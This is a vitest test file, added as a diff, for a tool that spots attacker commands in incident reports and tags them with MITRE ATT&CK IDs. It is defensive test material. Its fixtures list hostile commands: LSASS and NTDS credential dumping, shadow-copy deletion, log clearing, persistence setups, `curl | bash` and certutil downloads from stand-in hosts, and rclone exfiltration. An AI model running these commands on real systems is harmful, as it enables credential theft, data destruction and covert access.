@@ -1,0 +1,168 @@
+import { describe, expect, it } from "vitest";
+import { createSentenceJudge } from "../../../../src/reading/recognition/acts/judge-sentences.ts";
+import {
+  COMMAND_FINDS,
+  findCommands,
+} from "../../../../src/reading/recognition/commands/find-commands.ts";
+import { judgeCommand } from "../../../../src/reading/recognition/commands/judge-commands.ts";
+import { bodyText } from "../../../../src/text/document/body-text.ts";
+import { outlineText } from "../../../../src/text/outline/outline-text.ts";
+import { splitSentences } from "../../../../src/text/sentences/sentences.ts";
+import { shippedRelease } from "../../../../scripts/model/shipped.ts";
+import { processorMs } from "../../../support/node/processor-time.ts";
+import { smallRelease } from "../../../support/small-release.ts";
+
+const release = shippedRelease();
+
+function read(text: string, at = release) {
+  const outline = outlineText(text);
+  const sentences = splitSentences(outline);
+  const judge = createSentenceJudge(outline, sentences);
+  const parts = { text: bodyText(outline), blocks: outline.blocks, sentences };
+  return findCommands(parts, whole(text), at).map((one) => ({
+    ...one,
+    reason: judgeCommand(one, parts, judge),
+  }));
+}
+
+/** The techniques of commands that somebody ran, without those that may mean anything. */
+function idsIn(text: string, at = release): string[] {
+  const sure = read(text, at).filter(
+    ({ reason, confidence }) => reason === null && confidence >= COMMAND_FINDS,
+  );
+  return [...new Set(sure.map(({ attack_id }) => attack_id))].sort();
+}
+
+const block = (...lines: string[]) =>
+  `# Report\n\nThe intruders ran these commands:\n\n\`\`\`\n${lines.join("\n")}\n\`\`\`\n`;
+
+describe("commands in code", () => {
+  it.each<[string, ...string[]]>([
+    ['net group "Domain Admins" /domain', "T1069.002"],
+    ["net user backup2 Winter!22 /add", "T1136.001"],
+    ["nltest /dclist:corp.example", "T1018"],
+    ["C:\\Windows\\System32\\nltest.exe /domain_trusts", "T1482"],
+    ["cmd.exe /c whoami", "T1033", "T1059.003"],
+    ["copy svchost.exe \\\\10.1.1.1\\c$\\windows\\temp", "T1021.002", "T1570"],
+    ["vssadmin delete shadows /all /quiet", "T1490"],
+    ["wevtutil cl Security", "T1685.005"],
+    ["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v up /d a.exe", "T1547.001"],
+    ['schtasks /create /tn "Run At" /tr c:\\p\\a.exe /sc onlogon', "T1053.005"],
+    ["sc create upd binPath= c:\\p\\a.exe start= auto", "T1543.003"],
+    ["rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 644 c:\\p\\l.dmp full", "T1003.001"],
+    ["certutil -urlcache -split -f hxxp://files[.]example/a.txt a.exe", "T1105"],
+    ['ntdsutil "ac i ntds" ifm "create full c:\\p" q q', "T1003.003"],
+    ["wmic /node:SRV2 process call create a.exe", "T1047"],
+    ["powershell -w hidden -enc SQBFAFgA", "T1027.010", "T1059.001", "T1564.003"],
+    ["Start-BitsTransfer -Source http://files.example/a -Destination a", "T1105", "T1197"],
+    ["curl -s http://files.example/i.sh | bash", "T1059.004", "T1105"],
+    ["(crontab -l; echo x) | crontab -", "T1053.003"],
+    ["systemctl enable upd.service", "T1543.002"],
+    ["ssh -R 8443:localhost:22 a@203.0.113.9", "T1572"],
+    ["iptables -F", "T1686"],
+    ["kubectl exec -it web -- sh", "T1609"],
+    ["aws iam create-user --user-name support", "T1136.003"],
+    ["esxcli vm process kill --type=force --world-id=1", "T1489"],
+    ["rclone copy D:\\share mega:x", "T1567.002"],
+    ["7za a -pX out.7z D:\\share", "T1560.001"],
+  ])("%s", (command, ...ids) => {
+    expect(idsIn(block(command))).toEqual(ids);
+  });
+
+  it("quotes the command as printed", () => {
+    const [found] = read(block("nltest  /dclist:corp"));
+    expect(found?.hit).toEqual({ kind: "command", text: "nltest  /dclist:corp" });
+  });
+
+  it("holds what may mean anything for possible only", () => {
+    const found = read(block("gpupdate /force"));
+    expect(found.map(({ attack_id }) => attack_id)).toEqual(["T1484.001"]);
+    expect(found[0]?.confidence).toBeLessThan(COMMAND_FINDS);
+  });
+
+  it("follows its ids to the release at hand", () => {
+    expect(idsIn(block('schtasks /create /tn "a" /tr b.exe'), smallRelease())).toEqual([
+      "T1053.005",
+    ]);
+    expect(idsIn(block("wevtutil cl Security"), smallRelease())).toEqual([]);
+  });
+});
+
+describe("commands in sentences", () => {
+  it.each<[string, ...string[]]>([
+    ['The actors ran net group "Domain Admins" /domain to list privileged accounts.', "T1069.002"],
+    ["The actors executed `nltest /dclist:` on the first host.", "T1018"],
+    ["They ran “vssadmin.exe delete shadows /all”.", "T1490"],
+    ["They ran nltest –domain_trusts afterwards.", "T1482"],
+    ["The attackers used the command net localgroup administrators svc\\_sql /add.", "T1098.007"],
+    ["The intruders executed whoami, ipconfig and systeminfo.", "T1016", "T1033", "T1082"],
+    ["The group used AdFind to list the computers of the domain.", "T1018"],
+    ["AdFind was executed to list domain trusts.", "T1482"],
+    ["LaZagne was executed on two servers.", "T1555"],
+    ["The affiliates exfiltrated the data with Rclone.", "T1567.002"],
+    ["The actors installed AnyDesk on the file server.", "T1219.002"],
+    ["Die Angreifer führten nltest /domain_trusts auf dem Server aus.", "T1482"],
+    ["Die Angreifer nutzten AdFind auf dem Domänencontroller.", "T1087.002"],
+    ["Los atacantes ejecutaron vssadmin delete shadows /all en el servidor.", "T1490"],
+    ["Les attaquants ont utilisé LaZagne sur deux postes.", "T1555"],
+    ["Злоумышленники запустили nltest /dclist:corp на сервере.", "T1018"],
+    ["攻击者使用AdFind收集信息。", "T1087.002"],
+    ["攻击者执行了 wevtutil cl Security 命令。", "T1685.005"],
+  ])("%s", (sentence, ...ids) => {
+    expect(idsIn(sentence)).toEqual(ids);
+  });
+});
+
+describe("what is no command that somebody ran", () => {
+  it.each([
+    "AdFind is a free tool that queries Active Directory.",
+    "The following tools are common: AdFind, Mimikatz, LaZagne.",
+    "Administrators should restrict vssadmin delete shadows on servers.",
+    "We ran AdFind in our lab.",
+    "The company's net group revenue grew at 9:30.",
+    "The archive was saved at C:\\Users\\Public\\a.exe last week.",
+    "The domain resolved to the IP address 203.0.113.7 in May.",
+    "The copy of the file is on host 7, and the route to it is long.",
+    "The router showed `show running-config` and `configure terminal`.",
+    "adfind.exe d41d8cd98f00b204e9800998ecf8427e",
+    "The actors did not run nltest /dclist:corp.",
+  ])("%s", (text) => {
+    expect(idsIn(text)).toEqual([]);
+  });
+
+  it("takes nothing of rules", () => {
+    const rule =
+      "DeviceProcessEvents\n| where ProcessCommandLine has_all ('vssadmin delete shadows', 'x')";
+    expect(idsIn(block(rule))).toEqual([]);
+    expect(idsIn(block("selection:", "  - 'vssadmin delete shadows'"))).toEqual([]);
+  });
+
+  it("takes nothing of what defenders are told to look for", () => {
+    const section =
+      "# Detection\n\nSearch for these commands:\n\n```\nvssadmin delete shadows /all\n```\n";
+    expect(idsIn(section)).toEqual([]);
+    expect(read(section).map(({ reason }) => reason)).toEqual(["detection"]);
+  });
+});
+
+describe("hostile texts", () => {
+  it.each([
+    ["a line of commands", "net view /all & ".repeat(62_500)],
+    ["open quotes", '"net `net “net '.repeat(66_000)],
+    ["quotes in quotes", "\"'`".repeat(330_000)],
+    ["one word", "powershell".repeat(100_000)],
+    ["encoded data", `powershell -enc ${"QUJD".repeat(250_000)}`],
+    ["backslashes", "\\".repeat(1_000_000)],
+    ["brackets", "({".repeat(500_000)],
+  ])("reads %s in linear time", (_, text) => {
+    const outline = { text, blocks: [{ ...whole(text), kind: "code", source: "format" } as const] };
+    const sentences = splitSentences(outline);
+    const start = processorMs();
+    findCommands({ ...outline, sentences }, whole(text), release);
+    expect(processorMs() - start).toBeLessThan(1_500);
+  });
+});
+
+function whole(text: string) {
+  return { start: 0, end: text.length };
+}
